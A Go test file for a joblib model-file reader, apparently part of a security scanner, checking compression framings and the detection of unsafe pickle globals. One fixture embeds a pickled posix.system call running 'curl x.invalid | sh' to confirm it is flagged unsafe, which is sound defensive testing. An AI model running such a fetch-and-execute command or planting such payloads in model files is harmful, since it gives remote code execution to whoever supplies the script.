package joblib

import (
	"bytes"
	"compress/bzip2"
	"io"
	"slices"
	"testing"

	"github.com/modelvet/modelvet/formats/pickle"
	"github.com/modelvet/modelvet/internal/formattest"
	"github.com/modelvet/modelvet/internal/testmodel"
)

// A fitted estimator's attributes: float and integer arrays, a string
// array (a fixed-size dtype with its size in the dtype state) and an
// array of Python objects (joblib pickles it as a stream of its own).
var arrays = []testmodel.JoblibArray{
	{Name: "coef_", DType: "f8", Shape: []int64{3, 4}},
	{Name: "intercept_", DType: "f8", Shape: []int64{3}},
	{Name: "n_iter_", DType: "i4", Shape: []int64{1}},
	{Name: "classes_", DType: "U5", Shape: []int64{3}},
	{Name: "feature_names_in_", DType: "O8", Shape: []int64{2}, Objects: func(p *testmodel.Pickler) { p.Str("age").Str("income") }},
}

func read(t testing.TB, data []byte) (*Info, error) {
	t.Helper()
	return Read(bytes.NewReader(data), int64(len(data)))
}

func names(info *Info) []string {
	var out []string
	for _, g := range info.Pickle.Globals {
		out = append(out, g.String()+"="+g.Class)
	}
	return out
}

// Every framing joblib writes is read; the array bytes are skipped and a
// hostile entry after the arrays is seen.
func TestReadEveryFraming(t *testing.T) {
	hostile := func(p *testmodel.Pickler) { p.Call("posix", "system", "curl x.invalid | sh") }
	want := []string{
		"joblib.numpy_pickle.NumpyArrayWrapper=safe", "numpy.dtype=safe", "numpy.ndarray=safe",
		"numpy.core.multiarray._reconstruct=safe", "posix.system=unsafe",
	}
	for _, comp := range []string{"", "zlib", "gzip", "lzma", "xz", "lz4", "legacy-zlib"} {
		t.Run(comp, func(t *testing.T) {
			info, err := read(t, testmodel.Joblib(comp, arrays, hostile))
			if err != nil {
				t.Fatal(err)
			}
			wantComp := comp
			if comp == "legacy-zlib" {
				wantComp = "zlib (joblib < 0.10)"
			}
			if info.Compression != wantComp || info.Pickle.Incomplete != "" {
				t.Errorf("compression %q incomplete %q", info.Compression, info.Pickle.Incomplete)
			}
			if got := names(info); !slices.Equal(got, want) {
				t.Errorf("globals %q", got)
			}
			if info.Pickle.Streams != 1 {
				t.Errorf("%d streams", info.Pickle.Streams)
			}
		})
	}
}

// The one bz2 fixture (the standard library cannot write bzip2)
// decompresses to the joblib file it stands for, and is read.
func TestReadBZ2(t *testing.T) {
	data := testmodel.Joblib("bz2", testmodel.JoblibBZ2Arrays, testmodel.JoblibBZ2Extra)
	plain, err := io.ReadAll(bzip2.NewReader(bytes.NewReader(data)))
	if err != nil || !bytes.Equal(plain, testmodel.Joblib("", testmodel.JoblibBZ2Arrays, testmodel.JoblibBZ2Extra)) {
		t.Fatalf("fixture does not decompress to its data: %v", err)
	}
	info, err := read(t, data)
	if err != nil {
		t.Fatal(err)
	}
	if info.Compression != "bz2" || !slices.ContainsFunc(info.Pickle.Globals, func(g pickle.Global) bool {
		return g.String() == "posix.system" && g.Category == pickle.CategoryProcess
	}) {
		t.Errorf("%+v %q", info, names(info))
	}
}

// Without the wrapper's state the array bytes cannot be skipped: the walk
// stops there, with the globals before it.
func TestReadBrokenWrapper(t *testing.T) {
	data := testmodel.Joblib("", []testmodel.JoblibArray{{Name: "w", DType: "q9", Shape: []int64{2}}}, nil)
	info, err := read(t, data)
	if err == nil || info == nil || info.Pickle.Incomplete == "" {
		t.Errorf("info %+v err %v", info, err)
	}
	formattest.CheckReaderError(t, err, info != nil)
}

func TestSniff(t *testing.T) {
	for comp, data := range map[string][]byte{
		"":     testmodel.Joblib("", arrays[:1], nil),
		"zlib": testmodel.Joblib("zlib", arrays[:1], nil),
		"xz":   testmodel.Joblib("xz", arrays[:1], nil),
	} {
		got, ok := Sniff(data[:64])
		if got != comp || !ok || !DecompressedPickle(bytes.NewReader(data), int64(len(data))) == (comp != "") {
			t.Errorf("%q: sniffed %q %v", comp, got, ok)
		}
	}
	if _, ok := Sniff([]byte("GGUF")); ok {
		t.Error("GGUF sniffed as joblib")
	}
}

func FuzzRead(f *testing.F) {
	for _, comp := range []string{"", "zlib", "gzip", "xz", "lz4", "lzma", "legacy-zlib"} {
		f.Add(testmodel.Joblib(comp, arrays, nil))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		info, err := Read(bytes.NewReader(data), int64(len(data)))
		formattest.CheckReaderError(t, err, info != nil)
	})
}
